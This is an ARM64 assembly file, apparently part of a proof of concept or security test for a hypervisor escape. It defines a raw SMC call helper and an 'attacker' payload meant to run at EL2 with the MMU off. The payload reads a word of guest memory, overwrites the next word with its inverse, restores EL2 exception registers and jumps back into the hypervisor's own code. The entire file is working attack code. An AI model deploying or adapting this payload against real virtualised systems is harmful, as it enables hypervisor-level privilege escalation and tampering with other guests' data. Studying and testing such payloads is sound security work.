/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * An SMC whose address is known; and what the attacker wants to run at EL2, with the MMU off: it reads a word of the guest's
 * page, changes the next one, and goes back into EL2's own code. It is copied to the
 * beginning of a page whose second half is a struct att_payload.
 *
 * It uses x0 to x3 and x9 to x12 only.
 */
#include <linux/linkage.h>
#include <asm/assembler.h>

#include "payload.h"

/* u64 att_raw_smc(const u64 args[8]): returns x0 */
SYM_FUNC_START(att_raw_smc)
	mov	x8, x0
	ldp	x0, x1, [x8]
	ldp	x2, x3, [x8, #16]
	ldp	x4, x5, [x8, #32]
	ldp	x6, x7, [x8, #48]
SYM_INNER_LABEL(att_smc_insn, SYM_L_GLOBAL)
	smc	#0
	ret
SYM_FUNC_END(att_raw_smc)

SYM_DATA_START(att_el2_code)
	adr	x9, att_el2_code + ATT_PAYLOAD_DATA
	mrs	x10, CurrentEL
	str	x10, [x9, #ATT_PAYLOAD_EL]
	ldr	x11, [x9, #ATT_PAYLOAD_GUEST]
	ldr	x12, [x11]
	str	x12, [x9, #ATT_PAYLOAD_SECRET]
	mvn	x12, x12
	str	x12, [x11, #8]
	ldr	x10, [x9, #ATT_PAYLOAD_VBAR]
	msr	vbar_el2, x10
	ldr	x10, [x9, #ATT_PAYLOAD_ELR]
	msr	elr_el2, x10
	ldr	x10, [x9, #ATT_PAYLOAD_SPSR]
	msr	spsr_el2, x10
	ldr	x0, [x9, #ATT_PAYLOAD_X0]
	mov	x1, xzr
	ldr	x2, [x9, #ATT_PAYLOAD_RESUME]
	ldr	x3, [x9, #ATT_PAYLOAD_SCTLR]
	ldr	x10, [x9, #ATT_PAYLOAD_MMU_ON]
	br	x10
SYM_DATA_END_LABEL(att_el2_code, SYM_L_GLOBAL, att_el2_code_end)
